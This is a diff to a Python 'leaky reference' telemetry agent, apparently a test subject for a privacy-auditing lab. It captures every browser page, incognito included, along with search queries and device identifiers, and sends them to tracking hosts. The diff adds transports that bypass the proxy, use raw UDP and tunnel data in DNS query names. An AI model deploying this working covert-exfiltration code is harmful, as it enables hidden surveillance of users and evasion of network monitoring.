@@ -1,17 +1,28 @@
 """A firmware-level telemetry agent, outside the web pages (the leaky reference build).
 
-It finds each browser the device starts (chromedriver starts Chromium with
-``--remote-debugging-port=0`` and writes the port to ``DevToolsActivePort`` in
-the profile folder), attaches to the browser target, discovers every page,
-incognito ones too, and sends through the device's proxy:
+It runs as a lab firmware process: it finds each browser the device starts
+(chromedriver starts Chromium with ``--remote-debugging-port=0`` and writes the
+port to ``DevToolsActivePort`` in the profile folder), attaches to the browser
+target, discovers every page, incognito ones too, and sends:
 
 - each visited URL and each search query at once, to the "pages" host;
 - a device identifier with app-usage events (tabs opened, pages switched), on a
   timer, to the "usage" host.
 
 Payloads are JSON, then encoded as configured (``base64``, ``gzip+base64``,
-``json``); identifiers plain or hashed (``sha256``, ``md5``). Run as
-``python -m telltale.reference.agent --config FILE``.
+``json``); identifiers plain or hashed (``sha256``, ``md5``). The transport is
+how real firmware gets past a lab that only reads the proxy setting:
+
+- ``proxy``: HTTPS through the device's proxy setting (none: straight out);
+- ``direct``: its own TLS connection to the server's address, as an SDK that
+  ignores proxy settings does;
+- ``udp``: datagrams to port 443, a QUIC-like channel no HTTP proxy sees;
+- ``dns``: the visited site, search and identifiers hex-encoded in query names.
+
+Telemetry settings come from ``--config FILE`` (JSON); what the device gives
+every firmware process comes from the environment (``TELLTALE_DEVICE``,
+``TELLTALE_DEVTOOLS_WATCH``, ``TELLTALE_CA_CERT``, ``TELLTALE_IDENTIFIERS``,
+``TELLTALE_PROXY``). Run as ``python -m telltale.reference.agent --config FILE``.
 """
 
 from __future__ import annotations
@@ -20,14 +31,20 @@ import argparse
 import base64
 import gzip
 import hashlib
+import http.client
 import itertools
 import json
 import logging
+import os
+import random
+import socket
 import ssl
+import struct
 import sys
 import threading
 import time
 import urllib.request
+from collections.abc import Mapping
 from dataclasses import dataclass, field
 from pathlib import Path
 from urllib.parse import parse_qs, urlsplit
@@ -36,19 +53,45 @@ import websocket
 
 log = logging.getLogger("telltale.agent")
 SEARCH_PARAMS = ("q", "query", "p", "text", "wd")
+TRANSPORTS = ("proxy", "direct", "udp", "dns")
+SERVICE_PORT = 443          # where direct and udp telemetry goes (tests point it at a local port)
+DNS_PORT = 53               # the resolver's port (likewise)
+RESOLV_CONF = "/etc/resolv.conf"
+DNS_WAIT = 1.0              # seconds to wait for an answer nobody reads
+DATAGRAM_MAX = 1200         # bytes per datagram: what fits a QUIC-sized packet
+HEX_LABEL = 60              # hex digits per DNS label (the limit is 63)
+NAME_MAX = 253              # characters in a DNS name
+ENV = {"device": "TELLTALE_DEVICE", "watch": "TELLTALE_DEVTOOLS_WATCH", "ca_cert": "TELLTALE_CA_CERT",
+       "identifiers": "TELLTALE_IDENTIFIERS", "proxy": "TELLTALE_PROXY"}
 
 
 @dataclass(frozen=True)
 class AgentConfig:
-    watch: str                      # folder where browsers' profile folders appear
-    proxy: str                      # the device's proxy, e.g. http://127.0.0.1:8080
-    ca_cert: str                    # the CA the device trusts (the capture CA)
+    watch: str = ""                 # folder where browsers' profile folders appear
+    ca_cert: str | None = None      # the CA the device trusts system-wide (the capture CA)
+    proxy: str | None = None        # the device's proxy setting, e.g. http://127.0.0.1:8080; None: none
+    identifiers: dict[str, str] = field(default_factory=dict)
+    device: str = ""                # the device's name, for the log
     pages_url: str = "https://tracking.intl.miui.com/track/v4/pages"
     usage_url: str = "https://sa.api.intl.miui.com/sa?project=browser"
     encoding: str = "base64"        # base64 | gzip+base64 | json
     id_hash: str = "none"           # none | sha256 | md5
-    identifiers: dict[str, str] = field(default_factory=dict)
     interval: float = 1.0           # seconds between app-usage batches
+    transport: str = "proxy"        # proxy | direct | udp | dns
+    addresses: dict[str, str] = field(default_factory=dict)  # host (or *.suffix) -> server IP
+
+    def __post_init__(self) -> None:
+        if self.transport not in TRANSPORTS:
+            raise ValueError(f"unknown transport {self.transport!r} (one of {', '.join(TRANSPORTS)})")
+
+    @classmethod
+    def load(cls, values: Mapping, environ: Mapping[str, str]) -> AgentConfig:
+        """The file's settings; the firmware environment fills in what the file leaves out."""
+        merged = dict(values)
+        for key, var in ENV.items():
+            if merged.get(key) is None and environ.get(var):
+                merged[key] = json.loads(environ[var]) if key == "identifiers" else environ[var]
+        return cls(**merged)
 
 
 def encode(payload: dict, how: str) -> tuple[bytes, dict[str, str]]:
@@ -71,13 +114,86 @@ def search_query(url: str) -> str | None:
     return next((q[p][0] for p in SEARCH_PARAMS if p in q), None)
 
 
+def tls_context(ca_cert: str | None) -> ssl.SSLContext:
+    """The system's trust plus the capture CA, as a lab build installs it system-wide."""
+    ctx = ssl.create_default_context()
+    if ca_cert:
+        ctx.load_verify_locations(ca_cert)
+    return ctx
+
+
+def address_of(host: str, addresses: Mapping[str, str]) -> str:
+    """The server address from the host map (exact, then ``*.suffix``), else the name to resolve."""
+    host = host.lower()
+    labels = host.split(".")
+    keys = [host, *("*." + ".".join(labels[i:]) for i in range(1, len(labels)))]
+    return next((addresses[k] for k in keys if k in addresses), host)
+
+
+def http_request(url: str, body: bytes, headers: Mapping[str, str]) -> bytes:
+    """A plain HTTP/1.1 POST, as a native SDK writes it on its own socket."""
+    parts = urlsplit(url)
+    target = (parts.path or "/") + (f"?{parts.query}" if parts.query else "")
+    lines = [f"POST {target} HTTP/1.1", f"Host: {parts.hostname}",
+             *(f"{k}: {v}" for k, v in headers.items()),
+             f"content-length: {len(body)}", "Connection: close"]
+    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body
+
+
+def datagrams(body: bytes) -> list[bytes]:
+    """The body in order, cut to datagrams a path never fragments."""
+    return [body[i:i + DATAGRAM_MAX] for i in range(0, len(body), DATAGRAM_MAX)]
+
+
+def dns_values(payload: dict) -> list[str]:
+    """What a query name can carry: the visited site and search, or the device's identifiers."""
+    if payload.get("event") == "page_view":
+        values = [urlsplit(payload["url"]).hostname, payload.get("search")]
+    else:
+        values = list(payload.get("device", {}).values())
+    return [v for v in values if v]
+
+
+def query_name(value: str, seq: int, zone: str) -> str:
+    """``<hex>.<seq>.<zone>``: one value's hex whole in one label where it fits, so it decodes as one run."""
+    digits = value.encode().hex()
+    labels = [digits[i:i + HEX_LABEL] for i in range(0, len(digits), HEX_LABEL)]
+    suffix = f".{seq}.{zone}"
+    while len(labels) > 1 and len(".".join(labels)) + len(suffix) > NAME_MAX:
+        labels.pop()
+    return ".".join(labels) + suffix
+
+
+def dns_query(name: str) -> bytes:
+    """An A query with recursion desired, as any stub resolver sends it."""
+    header = struct.pack("!HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0)
+    qname = b"".join(bytes([len(label)]) + label.encode("ascii") for label in name.split("."))
+    return header + qname + b"\0" + struct.pack("!HH", 1, 1)
+
+
+def nameserver(resolv_conf: str) -> str:
+    """The first ``nameserver`` of resolv.conf: where the system's own lookups go."""
+    for line in Path(resolv_conf).read_text().splitlines():
+        words = line.split()
+        if len(words) >= 2 and words[0] == "nameserver":
+            return words[1]
+    raise OSError(f"no nameserver in {resolv_conf}")
+
+
+def udp_target(host: str, port: int) -> tuple[int, tuple]:
+    family, _, _, _, addr = socket.getaddrinfo(host, port, type=socket.SOCK_DGRAM)[0]
+    return family, addr
+
+
 class Agent:
     def __init__(self, cfg: AgentConfig) -> None:
         self.cfg = cfg
-        ctx = ssl.create_default_context(cafile=cfg.ca_cert)
+        self.tls = tls_context(cfg.ca_cert)
+        proxies = {"http": cfg.proxy, "https": cfg.proxy} if cfg.proxy else {}  # {}: not the env's
         self.http = urllib.request.build_opener(
-            urllib.request.ProxyHandler({"http": cfg.proxy, "https": cfg.proxy}),
-            urllib.request.HTTPSHandler(context=ctx))
+            urllib.request.ProxyHandler(proxies), urllib.request.HTTPSHandler(context=self.tls))
+        self.send = {"proxy": self.send_proxy, "direct": self.send_direct,
+                     "udp": self.send_udp, "dns": self.send_dns}[cfg.transport]
         self.usage: list[dict] = []
         self.lock = threading.Lock()
         self.seen_browsers: set[str] = set()
@@ -87,13 +203,54 @@ class Agent:
         return {k: hashed(v, self.cfg.id_hash) for k, v in self.cfg.identifiers.items()}
 
     def post(self, url: str, payload: dict) -> None:
+        try:
+            self.send(url, payload)
+        except Exception as e:  # noqa: BLE001 - a real agent retries later; a failed send must not stop it
+            log.warning("%s to %s failed: %s: %s", self.cfg.transport, url, type(e).__name__, e)
+
+    def send_proxy(self, url: str, payload: dict) -> None:
+        """HTTPS as the device's settings say: through its proxy, or straight out without one."""
         body, headers = encode(payload, self.cfg.encoding)
         req = urllib.request.Request(url, data=body, headers=headers, method="POST")
-        try:
-            with self.http.open(req, timeout=10) as r:
-                r.read()
-        except OSError as e:  # a real agent retries later; this one just notes it
-            log.warning("post to %s failed: %s", url, e)
+        with self.http.open(req, timeout=10) as r:
+            r.read()
+
+    def send_direct(self, url: str, payload: dict) -> None:
+        """A native SDK's own TLS connection: the server's address, the right SNI, no proxy."""
+        body, headers = encode(payload, self.cfg.encoding)
+        host = urlsplit(url).hostname or ""
+        with socket.create_connection((address_of(host, self.cfg.addresses), SERVICE_PORT), 10) as raw, \
+                self.tls.wrap_socket(raw, server_hostname=host) as tls:
+            tls.sendall(http_request(url, body, headers))
+            resp = http.client.HTTPResponse(tls)
+            resp.begin()
+        log.debug("direct to %s: %s", host, resp.status)
+
+    def send_udp(self, url: str, payload: dict) -> None:
+        """Datagrams to the server's port 443, no reply awaited: a channel an HTTP proxy never sees."""
+        body, _ = encode(payload, self.cfg.encoding)
+        host = urlsplit(url).hostname or ""
+        family, addr = udp_target(address_of(host, self.cfg.addresses), SERVICE_PORT)
+        with socket.socket(family, socket.SOCK_DGRAM) as s:
+            for chunk in datagrams(body):
+                s.sendto(chunk, addr)
+
+    def send_dns(self, url: str, payload: dict) -> None:
+        """Query names under the telemetry host: any resolver on the way hands them on."""
+        zone = urlsplit(url).hostname or ""
+        seq = payload.get("seq") or next(self.seq)
+        for value in dns_values(payload):
+            self.resolve(query_name(value, seq, zone))
+
+    def resolve(self, name: str) -> None:
+        family, addr = udp_target(nameserver(RESOLV_CONF), DNS_PORT)
+        with socket.socket(family, socket.SOCK_DGRAM) as s:
+            s.settimeout(DNS_WAIT)
+            s.sendto(dns_query(name), addr)
+            try:
+                s.recv(4096)  # the answer does not matter; waiting for it is what a stub does
+            except TimeoutError:
+                pass
 
     def usage_event(self, kind: str, **fields) -> None:
         with self.lock:
@@ -179,8 +336,16 @@ def main(argv: list[str] | None = None) -> int:
     ap.add_argument("--config", required=True, help="JSON file with the AgentConfig fields")
     args = ap.parse_args(argv)
     logging.basicConfig(level=logging.INFO, format="%(asctime)s agent %(message)s")
-    cfg = AgentConfig(**json.loads(Path(args.config).read_text()))
-    Agent(cfg).run()
+    try:
+        cfg = AgentConfig.load(json.loads(Path(args.config).read_text()), os.environ)
+        if not cfg.watch:
+            raise ValueError(f"no DevTools folder to watch: set {ENV['watch']}")
+        agent = Agent(cfg)  # reads the CA
+    except (OSError, ValueError, TypeError) as e:
+        log.error("cannot start with %s: %s", args.config, e)
+        return 2
+    log.info("device %s: %s transport, watching %s", cfg.device or "?", cfg.transport, cfg.watch)
+    agent.run()
     return 0
 
 
